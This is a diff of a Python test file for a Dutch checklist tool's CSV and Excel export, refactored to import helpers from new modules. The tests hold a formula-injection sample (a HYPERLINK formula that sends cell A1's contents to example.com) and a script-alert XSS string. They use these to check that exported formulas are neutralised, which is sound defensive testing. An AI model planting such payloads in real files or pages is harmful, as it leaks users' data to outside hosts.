@@ -10,6 +10,8 @@ import pytest
 
 from dia_scan.checklist import exports
 from dia_scan.checklist import service as checklists
+from dia_scan.core.text import neutralise, nl_date, whole
+from dia_scan.output import spreadsheet
 
 HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"klik")'
 SCRIPT = "<script>alert('x')</script>"
@@ -61,7 +63,7 @@ def reports(db, catalog, organisation_id):
     ],
 )
 def test_neutralise(value, expected):
-    assert exports.neutralise(value) == expected
+    assert neutralise(value) == expected
 
 
 def test_tables_have_the_four_views_and_over_time(reports):
@@ -80,22 +82,22 @@ def test_tables_have_the_four_views_and_over_time(reports):
 
 def test_csv_round_trip_neutralises_formulas(reports):
     report, _ = reports
-    data = exports.to_csv_bytes(exports.criteria_table(report))
+    data = spreadsheet.to_csv_bytes(exports.criteria_table(report))
     assert data.startswith(b"\xef\xbb\xbf")
-    back = exports.read_csv_bytes(data)
+    back = spreadsheet.read_csv_bytes(data)
     first = back.iloc[0]
     assert first["toelichtingen"] == "'" + HYPERLINK
     assert first["ja tegenover nee"] == "ja"
     assert first["score"] == 50
     assert back.iloc[2]["toelichtingen"] == "'-- gewoon tekst"
-    actions = exports.read_csv_bytes(exports.to_csv_bytes(exports.actions_table(report)))
+    actions = spreadsheet.read_csv_bytes(spreadsheet.to_csv_bytes(exports.actions_table(report)))
     assert "'+31 bellen" in set(actions["actiepunt"])
     assert SCRIPT in set(actions["actiepunt"])  # not a formula: unchanged
 
 
 def test_excel_round_trip_has_a_sheet_per_view(reports):
     report, comparison = reports
-    data = exports.to_excel_bytes(exports.checklist_tables(report, comparison))
+    data = spreadsheet.to_excel_bytes(exports.checklist_tables(report, comparison))
     sheets = pd.read_excel(io.BytesIO(data), sheet_name=None)
     assert list(sheets) == ["dimensies", "criteria", "actiepunten", "verschillen", "door de tijd"]
     assert sheets["criteria"].iloc[0]["toelichtingen"] == "'" + HYPERLINK
@@ -129,7 +131,7 @@ def test_file_stem_is_safe(reports):
 
 
 def test_nl_date_and_whole():
-    assert exports.nl_date("2026-05-12T09:00:00+00:00") == "12-05-2026"
-    assert exports.nl_date(None) == ""
-    assert exports.whole(62.5) == 63
-    assert exports.whole(None) is None
+    assert nl_date("2026-05-12T09:00:00+00:00") == "12-05-2026"
+    assert nl_date(None) == ""
+    assert whole(62.5) == 63
+    assert whole(None) is None
